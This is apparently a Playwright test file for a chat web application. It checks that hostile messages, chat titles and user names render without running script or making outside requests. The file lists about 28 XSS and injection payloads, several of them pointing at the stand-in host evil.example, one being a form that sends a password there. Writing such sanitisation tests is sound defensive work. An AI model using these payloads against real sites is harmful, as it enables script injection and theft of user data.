"""Hostile answers, messages, titles and names (case R01): nothing runs, no request leaves."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.journey import DESK, Chat
from tests.stack import Stack

pytestmark = [pytest.mark.browser, pytest.mark.stack, pytest.mark.timeout(300)]

ENV = {"LLAMAWEB_ENGINE_CONTEXT": "16384"}
# Each would call `pwned` or ask http://evil.example for something, somewhere.
ATTACKS = (
    "<img src=x onerror=pwned()>",
    "<img src=http://evil.example/a.png>",
    "![picture](http://evil.example/b.png)",
    "<svg onload=pwned()><use href='http://evil.example/c.svg#x'/></svg>",
    "<a href='javascript:pwned()' id=clobbered>click</a>",
    "[link](javascript:pwned())",
    "[link](JaVaScRiPt:pwned())",
    "[link](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[link](&#106;avascript:pwned())",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=http://evil.example/d></iframe>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<style>@import 'http://evil.example/e.css'; body{background:url(http://evil.example/f)}</style>",
    "<link rel=stylesheet href=http://evil.example/g.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/h'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/i><input name=password>"
    "<button autofocus onfocus=pwned()>x</button></form>",
    "<video src=http://evil.example/j autoplay onloadstart=pwned()></video>",
    "<object data=http://evil.example/k></object><embed src=http://evil.example/l>",
    "<script>pwned()</script>",
    "```mermaid\nclick A callback pwned()\n```",
    "```html\n<script>pwned()</script>\n```",
    "$\\href{javascript:pwned()}{x}$",
    "<details open ontoggle=pwned()>x</details>",
    "<p style='background:url(http://evil.example/m)'>x</p>",
    "[ref]: javascript:pwned()\n\n[ref]",
    "<http://evil.example/n>",
)
MESSAGE = "\n\n".join(ATTACKS)
NAME = "<img src=x onerror=pwned()>"
WATCH = """
window.ran = [];
window.pwned = () => window.ran.push("pwned");
document.addEventListener("securitypolicyviolation", (event) =>
  window.ran.push(`${event.violatedDirective} ${event.blockedURI}`));
"""
FOUND = """() => ({
  elements: [...document.querySelectorAll(
    "main script, main iframe, main object, main embed, main form[action], main style, main svg, " +
    "main img, main video, main link, main meta, main base, main math")].map((e) => e.outerHTML),
  handlers: [...document.querySelectorAll("main *")].flatMap((e) =>
    [...e.attributes].filter((a) => /^on|^style$|^srcdoc$/i.test(a.name) &&
      e.closest(".prose")).map((a) => a.name)),
  links: [...document.querySelectorAll("article a[href]")].map((a) => a.protocol),
  clobbered: typeof window.clobbered,
})"""


@dataclass
class Watched:
    """A chat and what its page asked for and opened."""

    chat: Chat
    urls: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def assert_quiet(self) -> None:
        """Nothing ran and nothing left."""
        base = self.chat.stack.base_url
        own = (base, base.replace("http", "ws"), "data:", "blob:")
        assert [url for url in self.urls if not url.startswith(own)] == []
        assert self.dialogs == []
        assert self.chat.page.evaluate("window.ran") == []


@pytest.fixture
def watched(browser: Browser, stack: Stack) -> Iterator[Watched]:
    context = DESK.context(browser)
    context.add_init_script(WATCH)
    urls: list[str] = []
    context.on("request", lambda request: urls.append(request.url))
    found = Watched(Chat.of(context, stack), urls)
    found.chat.page.on("dialog", lambda dialog: found.dialogs.append(dialog.message))
    yield found
    context.close()


def test_a_hostile_message_and_its_answer(watched: Watched) -> None:
    chat = watched.chat
    chat.send(MESSAGE)
    chat.wait_done()
    for _ in range(2):  # as it streamed, and as it is stored
        _assert_harmless(chat)
        chat.answers.last.hover()
        chat.page.mouse.wheel(0, -100_000)  # only what is near the window is in the document
        expect(chat.questions.last).to_contain_text("<script>pwned()</script>")
        _assert_harmless(chat)
        watched.assert_quiet()
        chat.page.reload()
        chat.wait_done()


def _assert_harmless(chat: Chat) -> None:
    found = chat.page.evaluate(FOUND)
    assert found["elements"] == []
    assert found["handlers"] == []
    assert set(found["links"]) <= {"http:", "https:", "mailto:"}
    assert found["clobbered"] == "undefined"


@pytest.mark.parametrize("attack", [ATTACKS[0], ATTACKS[5], ATTACKS[20]], ids=["img", "url", "js"])
def test_hostile_titles(watched: Watched, attack: str) -> None:
    chat = watched.chat
    chat.send(attack)  # its first line is the title
    chat.wait_done()
    title = chat.page.title()
    assert attack[:20] in title
    chat.page.goto(chat.stack.base_url)
    row = chat.page.get_by_role("navigation", name="Chats").get_by_role("link", name=attack)
    row.last.hover()
    row.last.click()
    chat.wait_done()
    watched.assert_quiet()


def test_a_hostile_user_name(watched: Watched, browser: Browser) -> None:
    """Forms refuse such a name; a directory or a command might not."""
    stack = watched.chat.stack
    stack.create_user(NAME)
    context = DESK.context(browser)
    context.add_init_script(WATCH)
    chat = Chat.of(context, stack, NAME)
    expect(chat.page.get_by_role("button", name=NAME)).to_be_visible()
    expect(chat.page.get_by_role("heading", level=1)).to_contain_text(NAME)
    chat.page.goto(f"{stack.base_url}/accounts/sessions/")
    assert chat.page.evaluate("window.ran") == []
    context.close()
    admin = watched.chat.page
    admin.goto(f"{stack.base_url}/admin/accounts/user/")
    expect(admin.get_by_text(NAME).first).to_be_visible()
    assert [url for url in watched.urls if "evil" in url] == []
    assert "pwned" not in admin.evaluate("window.ran")


def test_an_answers_links_leave_without_a_trace(watched: Watched) -> None:
    chat = watched.chat
    chat.send("[a page](https://example.org/x)")
    chat.wait_done()
    link = chat.answer.get_by_role("link", name="a page")
    expect(link).to_have_attribute("target", "_blank")
    rel = (link.get_attribute("rel") or "").split()
    assert {"noopener", "noreferrer"} <= set(rel)
